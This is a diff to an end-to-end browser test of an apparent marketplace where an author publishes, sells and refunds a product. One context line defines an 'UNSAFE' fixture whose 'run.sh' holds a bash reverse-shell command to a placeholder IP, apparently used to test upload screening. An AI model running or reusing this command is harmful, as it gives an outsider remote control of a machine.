@@ -3,7 +3,6 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import type { Page } from "playwright-core";
 import { signUp } from "#test/support/accounts.js";
-import { IS_LONG } from "#test/support/effort.js";
 import { newSlug } from "#test/support/listings.js";
 import { arrive } from "./support/session.js";
 import { scenes, story, type Told } from "./support/story.js";
@@ -26,36 +25,32 @@ const UNSAFE = { ...SAFE, "run.sh": "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.7/
 const machine = mkdtempSync(join(tmpdir(), "vaultmart-author-"));
 afterAll(() => rmSync(machine, { recursive: true }));
 
-story(
-  "an author publishes, sells, answers and refunds",
-  IS_LONG ? scenes("es") : scenes("es").slice(1),
-  async (told, { locale }) => {
-    const { page, say, meet } = told;
-    const [author, buyer] = await Promise.all([signUp({ displayName: "Grace Hopper" }), signUp()]);
-    const slug = newSlug("ledger");
-    await arrive(page, author, "/publish", say);
-    await publish(told, slug);
+story("an author publishes, sells, answers and refunds", scenes("es"), async (told, { locale }) => {
+  const { page, say, meet } = told;
+  const [author, buyer] = await Promise.all([signUp({ displayName: "Grace Hopper" }), signUp()]);
+  const slug = newSlug("ledger");
+  await arrive(page, author, "/publish", say);
+  await publish(told, slug);
 
-    await page.goto("/sales");
-    await page.getByLabel(say("sales.country")).selectOption("US");
-    await press(page, say("sales.open"));
-    await openAccount(page);
-    await page.getByText(say("sales.states.ready")).waitFor();
+  await page.goto("/sales");
+  await page.getByLabel(say("sales.country")).selectOption("US");
+  await press(page, say("sales.open"));
+  await openAccount(page);
+  await page.getByText(say("sales.states.ready")).waitFor();
 
-    const { page: theirs } = await meet();
-    await arrive(theirs, buyer, `/p/${slug}`, say);
-    await talk(told, theirs);
+  const { page: theirs } = await meet();
+  await arrive(theirs, buyer, `/p/${slug}`, say);
+  await talk(told, theirs);
 
-    await theirs.goto(`/p/${slug}`);
-    const price = new Intl.NumberFormat(locale, { style: "currency", currency: "USD" }).format(PRICE);
-    await press(theirs, say("product.buy", { price }));
-    await payBy(theirs, "4242424242424242");
-    await theirs.getByText(say("product.checkout.paid")).waitFor();
-    await refund(told);
-    await theirs.goto("/library");
-    await theirs.getByRole("link", { name: say("library.again") }).waitFor();
-  },
-);
+  await theirs.goto(`/p/${slug}`);
+  const price = new Intl.NumberFormat(locale, { style: "currency", currency: "USD" }).format(PRICE);
+  await press(theirs, say("product.buy", { price }));
+  await payBy(theirs, "4242424242424242");
+  await theirs.getByText(say("product.checkout.paid")).waitFor();
+  await refund(told);
+  await theirs.goto("/library");
+  await theirs.getByRole("link", { name: say("library.again") }).waitFor();
+});
 
 const press = (page: Page, name: string) => page.getByRole("button", { name, exact: true }).click();
 
